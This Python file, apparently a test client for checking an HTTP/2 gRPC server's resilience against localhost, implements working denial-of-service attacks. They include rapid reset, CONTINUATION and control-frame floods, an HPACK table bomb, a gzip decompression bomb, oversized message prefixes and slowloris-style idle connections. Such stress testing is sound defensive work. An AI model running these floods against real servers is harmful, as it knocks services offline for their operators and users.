"""A client that means harm, as fast as it can. usage: attack.py NAME PORT SECONDS"""

import gzip
import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from functools import partial

from .wire import (
    ACK,
    CONTINUATION,
    DATA,
    EMPTY_CALL,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    HELLO,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WIDE_WINDOW,
    WINDOW_UPDATE,
    field,
    frame,
    request,
    text,
)

OPEN_STREAM = frame(HEADERS, END_HEADERS, 1, EMPTY_CALL)
PAUSE_SECONDS = 0.005


def repeated(first: bytes, again: bytes) -> Iterator[bytes]:
    """The same frame over and over, 16 KiB at a time."""
    yield HELLO + first
    chunk = again * (16384 // len(again))
    while True:
        yield chunk


def streams(make: Callable[[int], bytes], at_once: int) -> Iterator[bytes]:
    """A new stream each time."""
    yield HELLO + WIDE_WINDOW
    stream = 1
    while True:
        yield b"".join(make(stream + 2 * index) for index in range(at_once))
        stream += 2 * at_once


def rapid_reset(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, EMPTY_CALL) + frame(
        RST_STREAM, 0, stream, struct.pack(">I", 8)
    )


# 4,000 bytes in the dynamic table, then one byte for each time they stand in the list.
_BOMB = b"\x40" + text("bomb") + b"\x7f\xa1\x1e" + b"b" * 4000 + b"\xbe" * 10_000


def hpack_bomb(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, EMPTY_CALL + _BOMB)


def huge_prefix(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, EMPTY_CALL) + frame(
        DATA, 0, stream, b"\x00\xff\xff\xff\xff" + bytes(100)
    )


_GZIPPED = gzip.compress(bytes(48 << 20), 9)
_GZIP_CALL = request("UnaryCall", ("grpc-encoding", "gzip"))


def gzip_bomb(stream: int) -> bytes:
    message = struct.pack(">BI", 1, len(_GZIPPED)) + _GZIPPED
    frames = [frame(HEADERS, END_HEADERS, stream, _GZIP_CALL)]
    for start in range(0, len(message), 16384):
        last = start + 16384 >= len(message)
        part = message[start : start + 16384]
        frames.append(frame(DATA, END_STREAM if last else 0, stream, part))
    return b"".join(frames)


def slow_preface() -> Iterator[bytes]:
    """A byte now and then."""
    for byte in PREFACE[:-1]:
        yield bytes([byte])


CONTROL_FRAMES = {
    "ping": frame(PING, payload=bytes(8)),
    "ping_ack": frame(PING, ACK, payload=bytes(8)),
    "settings": frame(SETTINGS),
    "priority": frame(PRIORITY, 0, 3, bytes(5)),
    "window_update": frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)),
    "unknown": frame(77, payload=bytes(3)),
}

# Not cut off at once: each call is refused by itself, and a slow client has its time.
NOT_CUT_OFF = {"slow_preface", "huge_prefix", "gzip_bomb"}

ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid_reset": lambda: streams(rapid_reset, 100),
    "continuation": lambda: repeated(
        frame(HEADERS, 0, 1, EMPTY_CALL), frame(CONTINUATION, 0, 1, field("x", "y"))
    ),
    "hpack_bomb": lambda: streams(hpack_bomb, 1),
    "empty_data": lambda: repeated(OPEN_STREAM, frame(DATA, 0, 1)),
    **{name: partial(repeated, b"", again) for name, again in CONTROL_FRAMES.items()},
    # A server may treat a connection differently once something was asked on it.
    **{
        f"{name}_in_call": partial(repeated, OPEN_STREAM, again)
        for name, again in CONTROL_FRAMES.items()
    },
    "slow_preface": slow_preface,
    "huge_prefix": lambda: streams(huge_prefix, 1),
    "gzip_bomb": lambda: streams(gzip_bomb, 1),
}


class Attacker:
    """One connection after the other, each until the server has enough of it."""

    def __init__(self, name: str, port: int) -> None:
        self._make = ATTACKS[name]
        self._port = port
        self.connections = 0
        self.cut_off = 0
        self.sent_bytes = 0

    def run(self, end: float, pause: float) -> None:
        while time.monotonic() < end:
            try:
                connection = socket.create_connection(("127.0.0.1", self._port), timeout=10)
            except OSError:
                # A server that is busy closing others: once more.
                continue
            self.connections += 1
            with connection:
                try:
                    self._flood(connection, end, pause)
                except ConnectionError:
                    # Reset by the server: the next one.
                    self.cut_off += 1
                except TimeoutError:
                    # It reads no more, which is no end.
                    continue

    def _flood(self, connection: socket.socket, end: float, pause: float) -> None:
        for chunk in self._make():
            if time.monotonic() >= end:
                return
            connection.sendall(chunk)
            self.sent_bytes += len(chunk)
            # What the server says is read and dropped; an empty read is its end.
            while select.select([connection], [], [], pause)[0]:
                if not connection.recv(65536):
                    self.cut_off += 1
                    return


def hold(port: int, end: float) -> int:
    """Many connections at once that say next to nothing."""
    connections: list[socket.socket] = []
    while time.monotonic() < end:
        if len(connections) < 500:
            connection = socket.create_connection(("127.0.0.1", port), timeout=10)
            connection.sendall(PREFACE[: len(connections) % 20])
            connections.append(connection)
        time.sleep(PAUSE_SECONDS)
    return len(connections)


def main() -> None:
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    end = time.monotonic() + seconds
    if name == "slow_preface":
        print(json.dumps({"connections": hold(port, end), "cut_off": 0, "sent_bytes": 0}))
        return
    attacker = Attacker(name, port)
    attacker.run(end, 0)
    print(
        json.dumps(
            {
                "connections": attacker.connections,
                "cut_off": attacker.cut_off,
                "sent_bytes": attacker.sent_bytes,
            }
        )
    )


if __name__ == "__main__":
    main()
